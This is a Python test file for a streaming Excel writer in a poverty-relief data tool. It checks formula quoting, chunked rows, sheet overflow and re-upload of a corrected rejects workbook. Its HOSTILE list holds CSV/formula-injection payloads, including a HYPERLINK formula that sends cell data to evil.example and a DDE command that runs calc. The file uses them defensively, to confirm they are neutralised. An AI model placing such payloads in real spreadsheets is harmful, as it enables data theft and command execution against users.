"""The rejects workbook is streamed (io.tables.write_frames_xlsx): the same cells as the cell-by-cell
writer, formula-looking text still quoted, any number of rows, and a department list's rejects
upload again."""

from __future__ import annotations

from datetime import date

import fastexcel
import polars as pl
from openpyxl import load_workbook

from fupin.engine import idnumber, matching
from fupin.engine.policy import load_policies
from fupin.io import department, tables

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR", "'=already", "'plain", " lead", "trail ", "a&b<c>", "_x0041_", "多\n行", "nul\x01x"]


def _values(path, sheet=0) -> pl.DataFrame:
    return fastexcel.read_excel(str(path)).load_sheet(sheet, dtypes="string").to_polars()


def test_streamed_sheet_reads_back_as_the_cell_writer_does(tmp_path):
    frame = pl.DataFrame({"值": HOSTILE, "数": list(range(len(HOSTILE))), "空": [None] * len(HOSTILE)},
                         schema={"值": pl.String, "数": pl.Int64, "空": pl.String})
    tables.write_frames_xlsx(tmp_path / "fast.xlsx", {"清单": frame})
    tables.write_sheets(tmp_path / "cells.xlsx", {"清单": frame})
    assert _values(tmp_path / "fast.xlsx").equals(_values(tmp_path / "cells.xlsx"))


def test_streamed_sheet_quotes_formula_looking_text_and_headers(tmp_path):
    frame = pl.DataFrame({"=SUM(A1)": HOSTILE})
    tables.write_frames_xlsx(tmp_path / "t.xlsx", {"清单": frame})
    ws = load_workbook(tmp_path / "t.xlsx")["清单"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value.startswith(tables.FORMULA_STARTS):
                assert cell.quotePrefix, cell.coordinate
    assert ws["A1"].value == "=SUM(A1)" and ws["A1"].font.b


def test_streamed_sheet_writes_every_row_across_chunks(tmp_path):
    frame = pl.DataFrame({"a": [f"行{i}" for i in range(2_500)], "n": list(range(2_500))})
    tables.write_frames_xlsx(tmp_path / "t.xlsx", {"s": frame}, chunk_rows=1_000)
    back = fastexcel.read_excel(str(tmp_path / "t.xlsx")).load_sheet(0).to_polars()
    assert back["a"].to_list() == frame["a"].to_list() and back["n"].cast(pl.Int64).to_list() == frame["n"].to_list()


def test_rows_beyond_the_excel_sheet_limit_continue_on_another_sheet(tmp_path, monkeypatch):
    monkeypatch.setattr(tables, "XLSX_MAX_ROWS", 4)  # a header and three rows per sheet
    tables.write_frames_xlsx(tmp_path / "t.xlsx", {"明细": pl.DataFrame({"a": [str(i) for i in range(5)]})})
    book = fastexcel.read_excel(str(tmp_path / "t.xlsx"))
    assert book.sheet_names == ["明细", "明细 (2)"]
    assert [book.load_sheet(s).to_polars()["a"].to_list() for s in book.sheet_names] == [["0", "1", "2"], ["3", "4"]]


def _pid(seq: int) -> str:
    return idnumber.make_id("500101", date(1970, 1, 1 + seq), 11 + 2 * seq)


def test_claim_list_rejects_upload_again_once_fixed(tmp_path):
    members = pl.DataFrame({"household_id": ["R1"], "year": [2022], "id_number": [_pid(0)], "name": ["张三"]})
    households = pl.DataFrame({"household_id": ["R1"], "year": [2022], "region_code": ["500101102201"],
                               "registered": [True], "poverty_status": ["已脱贫"], "monitoring_category": [None],
                               "risk_eliminated": [None]}, schema_overrides={"monitoring_category": pl.String,
                                                                               "risk_eliminated": pl.Boolean})
    stranger = idnumber.make_id("500101", date(1990, 5, 5), 999)
    src = tmp_path / "claims.csv"
    pl.DataFrame({"姓名": ["张三", "张三", "李四"], "证件号码": [_pid(0), _pid(0), stranger],
                  "结算日期": ["2022-03-01", "2022-13-01", "2022-03-02"], "单据号": ["A1", "A2", "A3"],
                  "合规自付医疗费用": ["6000", "4000", "1"]}).write_csv(src)

    def match(path):
        return matching.match_department(department.read_department_file(path, "medical"), kind="medical", year=2022,
                                         members=members, households=households, policy=load_policies(),
                                         source=path.name)

    first = match(src)
    out = tmp_path / "claims.rejects.xlsx"
    assert department.write_match_rejects(first, out) == 2
    # The cadre fixes the date, drops the stranger's row and uploads the rejects workbook.
    wb = load_workbook(out)
    ws = wb["明细"]
    header = [c.value for c in ws[1]]
    rows = {r[header.index("原行号")].value: r for r in ws.iter_rows(min_row=2)}
    rows[3][header.index("结算日期")].value = "2022-12-01"
    ws.delete_rows(list(rows).index(4) + 2)
    wb.save(out)
    again = match(out)
    assert again.stats["rejected"] == 0 and again.claim_level and again.stats["matched_rows"] == 1
